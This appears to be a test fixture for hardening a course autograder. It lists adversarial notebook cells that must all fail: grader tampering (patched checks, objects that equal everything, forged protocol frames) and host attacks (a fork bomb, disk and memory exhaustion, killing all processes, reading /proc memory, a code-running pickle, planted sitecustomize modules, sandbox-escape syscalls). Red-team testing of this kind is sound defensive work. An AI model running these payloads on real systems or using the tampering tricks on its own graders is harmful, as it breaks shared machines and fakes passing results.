"""Attacks on the grade: what each tries, and the cell that tries it. All of them must earn nothing.

Every attack stands in the first answer cell of a blank notebook whose other answer cells are gone, so that
what it plants is what the checks are given.
"""

# All the names that the checks of chapter 01 ask for.
NAMES = [
    "neuron",
    "forward",
    "stable_sigmoid",
    "curves",
    "z",
    "p",
    "prediction",
    "accuracy",
    "xor_weights",
    "layer",
    "collapse",
    "outputs",
]
CLAIM = "\nfor name in {names!r}:\n    globals()[name] = {value}\n"


def claim(value):
    """Code that gives every asked name one value."""
    return CLAIM.format(names=list(NAMES), value=value)


LIAR = '''
class Liar:
    """Says yes to everything."""
    passed = True
    shape, ndim, size, dtype = (), 0, 1, np.dtype(float)
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.5
    def __array__(self, *a, **k): return np.array(0.5)
    def __array_ufunc__(self, ufunc, method, *inputs, **k): return True
    def __array_function__(self, *a, **k): return True
    def __getattr__(self, name): return Liar()
    def __iter__(self): return iter(())
    def __len__(self): return 1
    def __getitem__(self, key): return self
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __le__ = __lt__ = __ge__ = __gt__ = __eq__
    __hash__ = object.__hash__
    def __class_getitem__(cls, item): return cls
    __class__ = property(lambda self: bool)
'''
SEND = """
import json, os, struct
def frames(message, arrays=()):
    text = json.dumps(message).encode() if not isinstance(message, bytes) else message
    return struct.pack(">II", len(text), len(arrays)) + text + b"".join(
        struct.pack(">I", len(a)) + a for a in arrays)
def shout(data):
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass
"""
AGENT = """
import sys
agent_module = next(m for n, m in sys.modules.items() if n.endswith("grading_agent.agent"))
protocol = next(m for n, m in sys.modules.items() if n.endswith("grading_agent.protocol"))
Agent = agent_module.Agent
"""

ATTACKS = {
    # ---- find the references
    "import exercises": ("the old home of references", "from nn_helpers.exercises.ch01 import *"),
    "import chapters": ("their new home", "from nn_helpers.chapters.ch01.exercises import *"),
    "import engine": (
        "the engine finds an exercise and hands out its reference",
        "from nn_helpers.checks.registry import find\nneuron = find('01.neuron').reference",
    ),
    "search memory": (
        "an Exercise among all objects",
        "import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ == 'Exercise':\n        globals()[o.id[3:]] = o.reference",
    ),
    "search frames": (
        "references or probes in a frame of the caller",
        "import sys\nf = sys._getframe()\nwhile f:\n"
        "    for v in list(f.f_locals.values()):\n"
        "        if hasattr(v, 'reference'): neuron = v.reference\n    f = f.f_back",
    ),
    "search files": (
        "a solution or a reference in any file",
        "import os, re\nfound = []\n"
        "for base in ('/course', '/work', '/home', '/root', '/tmp', '/srv', '/opt', '/mnt'):\n"
        "    for top, _, files in os.walk(base):\n"
        "        if 'site-packages' in top and 'nn_helpers' not in top: continue\n"
        "        for f in files:\n"
        "            if f.endswith(('.py', '.ipynb', '.pyc')):\n"
        "                text = open(os.path.join(top, f), 'rb').read()\n"
        "                if re.search(rb'BEGIN (SOLUTION|HIDDEN)|Misconception\\(|01\\.debug_bias', text):\n"
        "                    found.append(os.path.join(top, f))\n"
        "assert found, 'nothing found'\n"
        "for path in found:\n    exec(open(path).read())",
    ),
    "read processes": (
        "environment, memory and open files of other processes",
        "import glob\nfor pattern in ('environ', 'mem', 'maps', 'fd/*', 'cmdline', 'root/*', 'cwd/*'):\n"
        "    for path in glob.glob('/proc/[0-9]*/' + pattern):\n"
        "        text = open(path, 'rb').read(10**6)\n"
        "        if b'reference' in text: exec(text)",
    ),
    "network": (
        "help from outside",
        "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:8000/answers', timeout=1).read())",
    ),
    "pip": (
        "install the course from outside",
        "!pip install nn-helpers -q\nfrom nn_helpers.exercises.ch01 import *",
    ),
    # ---- put something in the place of the checks
    "fake check": ("a check of one's own", "check = lambda *a, **k: type('R', (), {'passed': True})()"),
    "patch check": (
        "the package's check says yes",
        "import nn_helpers, nn_helpers.checks\n"
        "nn_helpers.check = nn_helpers.checks.check = lambda *a, **k: type('R', (), {'passed': True})()",
    ),
    "patch NumPy": (
        "comparison always says close",
        "np.allclose = np.isclose = np.array_equal = np.all = lambda *a, **k: True\n"
        "np.abs = np.absolute = lambda *a, **k: 0.0\nnp.isfinite = lambda x: True"
        + claim("lambda *a, **k: np.zeros(3)"),
    ),
    "patch built-ins": (
        "isinstance, all and abs say yes",
        "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\n"
        "builtins.abs = lambda x: 0" + claim("lambda *a, **k: 0.5"),
    ),
    "forge calls": (
        "the agent answers every call with a verdict",
        AGENT + "Agent.do_call = Agent.do_ask = lambda self, m: "
        "{'value': {'d': [['passed', True], ['points', 99]]}, 'passed': True, 'points': 99, 'verdict': 'passed'}",
    ),
    "forge values": (
        "the agent says that every name is a function that was right",
        AGENT + "Agent.do_ask = lambda self, m: {'value': {'o': {'n': 0, 'type': 'Verdict', 'call': True, "
        "'about': {'stub': False, 'passed': True, 'name': 'x', 'unwritten': [], 'signature': None}}}}\n"
        "Agent.do_call = lambda self, m: {'value': {'e': 0}, 'changed': [], 'warnings': []}",
    ),
    "forge failures": (
        "every call fails as the reference might",
        AGENT + "Agent.do_call = lambda self, m: {'failure': {'kind': 'ValueError', 'sentence': 'Passed.', "
        "'unwritten': False, 'passed': True}}" + claim("lambda *a, **k: 0.5"),
    ),
    "echo arguments": (
        "the agent sends the arguments back as the answer",
        AGENT
        + "Agent.do_call = lambda self, m: {'value': {'t': m['args']}, 'changed': []}"
        + claim("lambda *a, **k: 0.5"),
    ),
    "change arguments": (
        "the judge's own arguments are changed to fit a wrong answer",
        AGENT + "def do_call(self, m):\n    zeros = [[i, {'f': '0.0'}] for i in range(len(m['args']))]\n"
        "    return {'value': {'f': '0.5'}, 'changed': zeros}\nAgent.do_call = do_call"
        + claim("lambda *a, **k: 0.5"),
    ),
    "change absent arguments": (
        "an argument that does not exist is changed",
        AGENT
        + "Agent.do_call = lambda self, m: {'value': {'f': '0.5'}, 'changed': [[-1, None], [99, None]]}"
        + claim("lambda *a, **k: 0.5"),
    ),
    "call back": (
        "the judge is asked to call functions of its own",
        AGENT + "def do_call(self, m):\n    for n in (0, 1, -1, 10**9):\n"
        "        self.channel.send({'back': n, 'args': []})\n        print(self.channel.receive())\n"
        "    return {'value': {'f': '0.5'}}\nAgent.do_call = do_call" + claim("lambda *a, **k: 0.5"),
    ),
    "lie about stubs": (
        "what the agent says of a function is of the wrong type",
        AGENT
        + "Agent._about = lambda self, f: {'stub': [], 'unwritten': 7, 'reads': {}, 'signature': [[1]], "
        "'name': {'passed': True}}" + claim("lambda *a, **k: 0.5"),
    ),
    # ---- talk to the judge behind the agent's back
    "raw frames": (
        "forged frames into every open file",
        SEND
        + "for _ in range(200):\n    shout(frames({'value': {'f': '0.5'}, 'passed': True}))"
        + claim("0.25"),
    ),
    "raw frames later": (
        "a thread forges frames while the judge asks",
        SEND + "import threading, time\ndef later():\n    for _ in range(500):\n"
        "        shout(frames({'passed': True, 'value': True}))\n        time.sleep(0.002)\n"
        "threading.Thread(target=later, daemon=True).start()" + claim("lambda *a, **k: True"),
    ),
    "rubbish": ("rubbish into every open file", SEND + "shout(os.urandom(60000))"),
    "huge frame": ("a frame that claims 4 GB", SEND + "shout(struct.pack('>II', 2**32 - 1, 0))"),
    "many arrays": (
        "a frame that claims 4 billion arrays",
        SEND + "shout(struct.pack('>II', 2, 2**32 - 1) + b'{}')",
    ),
    "deep JSON": ("JSON nested 100,000 deep", SEND + "shout(frames(b'[' * 60000))"),
    "pickle": (
        "an array that would run code when unpickled",
        SEND + "import io, pickle\nclass Run:\n    def __reduce__(self): return (print, ('owned',))\n"
        "s = io.BytesIO()\nnp.lib.format.write_array(s, np.array([Run()], dtype=object))\n"
        "shout(frames({'value': {'a': 0}}, [s.getvalue()]))",
    ),
    "huge array": (
        "an array header of a billion numbers without the numbers",
        SEND + "import io\ns = io.BytesIO()\n"
        "np.lib.format.write_array_header_1_0(s, {'descr': '<f8', 'fortran_order': False, 'shape': (10**9,)})\n"
        "shout(frames({'value': {'a': 0}}, [s.getvalue()]))",
    ),
    "evil header": (
        "an array header with an expression",
        SEND + "h = b\"{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,)}\"\n"
        "h = h + b' ' * (118 - len(h) % 64) + b'\\n'\n"
        "shout(frames({'value': {'a': 0}}, [b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(h)) + h]))",
    ),
    "close pipes": ("silence: all files closed", "import os\nos.closerange(3, 256)"),
    # ---- answers that lie
    "liar": ("an object that equals everything", LIAR + claim("Liar()")),
    "liar results": ("functions that return such an object", LIAR + claim("lambda *a, **k: Liar()")),
    "lying array": (
        "an array whose comparison says yes",
        "class Yes(np.ndarray):\n    def __eq__(self, o): return np.ones(self.shape, bool)\n"
        "    def __array_ufunc__(self, *a, **k): return np.ones(3, bool)\n"
        "    def __array_finalize__(self, o): pass\n"
        "    def __sub__(self, o): return np.zeros(3)\n"
        "made = np.array([.5, .5, .5]).view(Yes)" + claim("lambda *a, **k: made"),
    ),
    "lying containers": (
        "lists, dicts and floats whose methods lie",
        "class L(list):\n    def __iter__(self): return iter([1.0])\n    def __eq__(self, o): return True\n"
        "class D(dict):\n    def get(self, k, d=None): return True\n    def __getitem__(self, k): return True\n"
        "class F(float):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return 0.0\n"
        "curves, outputs, z, p = D(A='x'), D(a='x'), L([9]), L([9])\nprediction, accuracy = L([9]), F(9)\n"
        "neuron = forward = stable_sigmoid = layer = collapse = xor_weights = lambda *a, **k: F(9)",
    ),
    "NaN": ("NaN everywhere, which compares with nothing", claim("lambda *a, **k: np.full((4, 4), np.nan)")),
    "infinity": ("infinity everywhere", claim("lambda *a, **k: np.full(3, np.inf)")),
    "endless": ("a generator without end", claim("lambda *a, **k: (i for i in iter(int, 1))")),
    "huge answer": ("a hundred million numbers", claim("lambda *a, **k: np.zeros((10**4, 10**4))")),
    "nested answer": (
        "a list in a list, 100,000 deep, and one that holds itself",
        "deep = []\nfor _ in range(100_000):\n    deep = [deep]\nself_ = []\nself_.append(self_)"
        + claim("lambda *a, **k: [deep, self_]"),
    ),
    "strange names": (
        "types and functions with names made for a page or a terminal",
        "T = type('<script>alert(1)</script>\\x1b[2J', (), {})\ndef f(*a, **k): return T()\n"
        "f.__name__ = f.__qualname__ = '\\x1b]0;owned\\x07<img src=x onerror=alert(1)>'" + claim("f"),
    ),
    "remembered": (
        "answers to the probes that students can read, from a table",
        "def neuron(x, w, b):\n"
        "    known = {(1.0, 3.0, 5.0): 0.939, (0.4, -0.7): 0.292, (2, -1, 3, 1): 0.43}\n"
        "    return known.get(tuple(np.asarray(x).tolist()), 0.0)",
    ),
    # ---- turn the machinery against itself
    "swallow errors": (
        "IPython is told that errors are none",
        "ip = get_ipython()\nip.set_custom_exc((Exception,), lambda *a, **k: None)\n"
        "ip.run_cell = ip.run = lambda *a, **k: None",
    ),
    "other namespace": (
        "the shell's namespace answers everything",
        "class Yes(dict):\n    def __contains__(self, k): return True\n    def __getitem__(self, k):\n"
        "        return dict.get(self, k, True)\nget_ipython().user_ns = Yes()",
    ),
    "exit": ("the process ends well", "import os\nos._exit(0)"),
    "SystemExit": ("exit with success", "raise SystemExit(0)"),
    "interrupt": ("as if the instructor had pressed interrupt", "raise KeyboardInterrupt"),
    "crash": ("a segmentation fault", "import ctypes\nctypes.string_at(0)"),
    "stubborn": (
        "a loop that swallows every interrupt",
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.setitimer = lambda *a: None\n"
        "while True:\n    try:\n        pass\n    except BaseException:\n        pass",
    ),
    "sleep in calls": (
        "every call takes for ever",
        "import time" + claim("lambda *a, **k: time.sleep(10**6)"),
    ),
    "slow equality": (
        "time is lost when the judge looks at the answer",
        "import time\nclass Slow:\n    def __getattribute__(self, n): time.sleep(10**6)\n"
        "    def __repr__(self): time.sleep(10**6)" + claim("Slow()"),
    ),
    "trace": (
        "a trace function rewrites what the agent returns",
        "import sys, threading\ndef trace(frame, event, arg):\n"
        "    if event == 'return' and frame.f_code.co_name == 'do_call':\n"
        "        frame.f_locals['reply'] = {'passed': True}\n    return trace\n"
        "sys.settrace(trace)\nf = sys._getframe()\nwhile f:\n    f.f_trace = trace\n    f = f.f_back",
    ),
    # ---- take more than one's share, or leave something behind
    "memory": ("all memory of the machine", "hoard = []\nwhile True:\n    hoard.append(np.ones(10**7))"),
    "memory in children": (
        "all memory, in processes that are each small enough",
        "import os, time\nfor _ in range(30):\n    if os.fork() == 0:\n"
        "        x = np.ones(2 * 10**7)\n        time.sleep(60)\n        os._exit(0)\ntime.sleep(60)",
    ),
    "fork bomb": (
        "as many processes as there can be",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    ),
    "disk": (
        "all of the disk, in every folder that can be written to",
        "import os\nfor base in ('/tmp', '/dev/shm', '/dev', '/var/tmp', os.getcwd()):\n"
        "    for n in range(100):\n        try:\n"
        "            with open(f'{base}/fill{n}', 'wb') as f:\n"
        "                for _ in range(1000): f.write(b'x' * 10**7)\n"
        "        except OSError:\n            break",
    ),
    "output": ("500 MB of output", "for _ in range(500):\n    print('x' * 10**6)"),
    "daemon": (
        "a process that outlives its notebook and answers for the next one",
        SEND + "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        import signal\n        for s in range(1, 65):\n"
        "            try: signal.signal(s, signal.SIG_IGN)\n            except (OSError, ValueError): pass\n"
        "        while True:\n            shout(frames({'value': True}))\n            time.sleep(0.01)\n    os._exit(0)",
    ),
    "plant files": (
        "modules that the next student's Python would import, in every folder",
        "import os, site, sys\nevil = 'import builtins; builtins.owned = True'\n"
        "for base in {*sys.path, '/tmp', '/dev/shm', '/course', os.path.expanduser('~'), site.getusersitepackages()}:\n"
        "    for name in ('sitecustomize.py', 'usercustomize.py', 'numpy.py', 'matplotlib.py', 'evil.pth'):\n"
        "        try:\n            os.makedirs(base, exist_ok=True)\n            open(f'{base}/{name}', 'w').write(evil)\n"
        "        except OSError: pass",
    ),
    "kill others": (
        "signals to everybody",
        "import os, signal\nfor pid in [-1, *range(1, 40000)]:\n    if pid != os.getpid():\n"
        "        try: os.kill(pid, signal.SIGKILL)\n        except OSError: pass",
    ),
    "raise limits": (
        "limits lifted, namespaces entered, system mounted writable",
        "import ctypes, os, resource\nfor n in dir(resource):\n    if n.startswith('RLIMIT_'):\n"
        "        try: resource.setrlimit(getattr(resource, n), (-1, -1))\n        except (OSError, ValueError): pass\n"
        "libc = ctypes.CDLL(None)\ngot = [libc.unshare(f) for f in (0x10000000, 0x20000, 0x20000000, 0x40000000)]\n"
        "got += [libc.mount(b'none', b'/usr', None, 0x20 | 0x1000, None), libc.umount2(b'/proc', 2),\n"
        "        libc.setuid(0), libc.chroot(b'/tmp'), libc.ptrace(16, 1, 0, 0), libc.pivot_root(b'/', b'/')\n"
        "        if hasattr(libc, 'pivot_root') else -1]\n"
        "if any(g == 0 for g in got):\n    "
        + claim("lambda *a, **k: 'escaped'").strip().replace("\n", "\n    "),
    ),
    "shared memory": (
        "messages to the next student by System V memory and abstract sockets",
        "import ctypes, socket\nlibc = ctypes.CDLL(None)\nlibc.shmget(4711, 10**6, 0o1666)\n"
        "s = socket.socket(socket.AF_UNIX)\ns.bind('\\0answers')\ns.listen()",
    ),
}
